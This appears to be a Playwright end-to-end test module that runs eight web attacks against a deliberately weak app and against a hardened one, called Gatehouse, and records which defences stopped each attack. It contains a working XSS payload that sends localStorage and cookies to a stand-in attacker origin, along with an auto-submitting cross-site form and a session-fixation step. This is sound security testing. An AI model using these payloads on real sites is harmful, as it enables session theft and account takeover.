import type { Browser, BrowserContext, Page } from '@playwright/test';
import { withoutStreams } from '#e2e/support/session-stream';
import { newNetwork } from '#e2e/support/test';
import type { Installation } from './installation.ts';
import { type SecondOrigin, startSecondOrigin } from './second-origin.ts';
import { gatehouse, type Site, weakSite } from './sites.ts';

/** What somebody tried, what came of it on either side, and what stopped it here. */
export type AttackRow = {
  attack: string;
  tried: string;
  there: string;
  here: string;
  stoppedBy: string;
  fellThere: boolean;
  heldHere: boolean;
};

type Outcome = { fell: boolean; observed: string };
type Attack = {
  attack: string;
  tried: string;
  stoppedBy: string;
  run: (site: Site, context: BrowserContext, evil: SecondOrigin) => Promise<Outcome>;
};

const outcome = (fell: boolean, ifFell: string, ifHeld: string): Outcome => ({
  fell,
  observed: fell ? ifFell : ifHeld,
});

const cookieOf = async (context: BrowserContext, { url, cookie }: Site) =>
  (await context.cookies(url)).find(({ name }) => name === cookie)?.value ?? '';

/** Asks for the private page with this cookie and nothing else, as the attacker does at home. */
const opensWith = async ({ url, home, private: words, cookie }: Site, value: string) => {
  const headers = { Cookie: `${cookie}=${value}`, 'X-Forwarded-For': newNetwork() };
  const answer = await fetch(url + home, { headers, redirect: 'manual' });
  return answer.status === 200 && words.test(await answer.text());
};

const settle = (page: Page) => page.waitForLoadState('networkidle');

const ATTACKS: Attack[] = [
  {
    attack: 'stolen by a script',
    tried:
      'A script that got into a page of somebody signed in sends everything it can read to another site, which uses it.',
    stoppedBy:
      'the content policy (the script does not run); behind it httpOnly (there is nothing to read) and connect-src (nothing can be sent)',
    async run(site, context, evil) {
      const page = await site.signIn(context);
      const code = `fetch('${evil.url}'+encodeURIComponent(JSON.stringify(localStorage)+document.cookie))`;
      // On either site the markup is already in the page: how it got there is another story.
      await page.evaluate((script) => {
        document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${script}">`);
      }, code);
      await settle(page);
      const loot = evil.heard.join(' ').match(/"token":"([^"]+)"/)?.[1] ?? '';
      const fell = loot !== '' && (await opensWith(site, loot));
      return outcome(
        fell,
        'the token arrived there and opened the account',
        'the script did not run, nothing arrived',
      );
    },
  },
  {
    attack: 'form from another site',
    tried:
      'A page of another site sends a form that changes the name, in the browser of somebody signed in.',
    stoppedBy:
      'SameSite=Lax (the browser sends no cookie) and the origin rule (403 before any code of the application)',
    async run(site, context, evil) {
      const page = await site.signIn(context);
      const before = site.name();
      await page.goto(
        evil.serve(`${await site.nameForm()}<script>document.forms[0].submit()</script>`),
      );
      await settle(page);
      return outcome(site.name() !== before, 'the name was changed', 'refused, the name stayed');
    },
  },
  {
    attack: 'cookie replayed after sign-out',
    tried: 'The cookie is copied, its owner signs out, and the copy is sent.',
    stoppedBy: 'the session row: it is gone, and the cookie is only its key',
    async run(site, context) {
      const page = await site.signIn(context);
      const copy = await cookieOf(context, site);
      if (!(await opensWith(site, copy))) throw new Error('The copy did not work before, either');
      await site.signOut(page);
      return outcome(
        await opensWith(site, copy),
        'it still opened the account',
        'it opened nothing',
      );
    },
  },
  {
    attack: 'fixation',
    tried:
      'A session id that the attacker knows is put into the browser before its owner signs in.',
    stoppedBy:
      'a session is made anew at every sign-in, with a secret that only the server chooses',
    async run(site, context) {
      const planted = 'known-to-the-attacker';
      for (const name of new Set(['sid', site.cookie]))
        await context.addCookies([{ name, value: planted, url: site.url }]);
      await site.signIn(context);
      const cookie = site.cookie === 'token' ? 'sid' : site.cookie;
      const fell = await opensWith({ ...site, cookie }, planted);
      return outcome(fell, 'the planted id opened the account', 'the planted id opened nothing');
    },
  },
  {
    attack: 'framing',
    tried:
      'Another origin, next door on the same host, shows the page of somebody signed in inside its own, to have it clicked on.',
    stoppedBy: 'frame-ancestors and X-Frame-Options (the browser shows nothing)',
    async run(site, context, evil) {
      const page = await site.signIn(context);
      evil.serve(`<iframe src="${site.url}${site.home}"></iframe>`);
      // From next door, where the browser itself keeps nothing back.
      await page.goto(evil.nextDoor);
      await settle(page);
      const texts = await Promise.all(
        page
          .frames()
          .slice(1)
          .map((frame) => frame.evaluate(() => document.body.textContent).catch(() => '')),
      );
      return outcome(
        texts.some((text) => site.private.test(text ?? '')),
        'the page was shown',
        'nothing was shown',
      );
    },
  },
  {
    attack: 'open redirect',
    tried: 'A link to the sign-in page names another site as the one to go to afterwards.',
    stoppedBy: 'only paths of this site are taken for `next`',
    async run(site, context, evil) {
      const page = await site.signIn(context, evil.url);
      return outcome(
        page.url().startsWith(evil.url),
        'the browser arrived at the other site',
        'the browser stayed',
      );
    },
  },
  {
    attack: 'page kept in a cache',
    tried:
      'Somebody signs out and goes away; the next at the same browser opens the page again, also without a network.',
    stoppedBy: 'Cache-Control: no-store, and Clear-Site-Data at sign-out',
    async run(site, context) {
      const page = await site.signIn(context);
      await page.goto(site.url + site.home);
      await site.signOut(page);
      await context.setOffline(true);
      await page.goto(site.url + site.home).catch(() => undefined);
      const text = await page.evaluate(() => document.body?.textContent ?? '').catch(() => '');
      await context.setOffline(false);
      return outcome(site.private.test(text), 'the page was shown again', 'nothing was shown');
    },
  },
  {
    attack: 'enumeration by answer',
    tried: 'The same wrong password is sent for an address with an account and for one without.',
    stoppedBy: 'one sentence for both, after the same work',
    async run(site, context) {
      const page = await context.newPage();
      const [known, unknown] = [
        await site.signInWrongly(page, site.email),
        await site.signInWrongly(page, 'nobody@example.com'),
      ];
      const plain = (text: string, email: string) =>
        text.replaceAll(email, '…').replace(/ref \w+/, '');
      const fell = plain(known, site.email) !== plain(unknown, 'nobody@example.com');
      return outcome(fell, 'two different answers', 'the same answer');
    },
  },
];

/** Performs every attack against the weak app and against Gatehouse. */
export async function attackBoth(
  installation: Installation,
  browser: Browser,
): Promise<AttackRow[]> {
  const rows: AttackRow[] = [];
  const weak = await weakSite();
  const sites = [weak.site, await gatehouse(installation)];
  for (const { attack, tried, stoppedBy, run } of ATTACKS) {
    const [there, here] = await Promise.all(
      sites.map(async (site) => {
        const evil = await startSecondOrigin();
        const context = await browser.newContext({
          extraHTTPHeaders: { 'X-Forwarded-For': newNetwork() },
        });
        await withoutStreams(context);
        try {
          return await run(site, context, evil);
        } finally {
          await context.close();
          evil.close();
        }
      }),
    );
    if (!there || !here) throw new Error(`${attack} was not observed`);
    rows.push({
      attack,
      tried,
      there: there.observed,
      here: here.observed,
      stoppedBy,
      fellThere: there.fell,
      heldHere: !here.fell,
    });
  }
  weak.close();
  return rows;
}
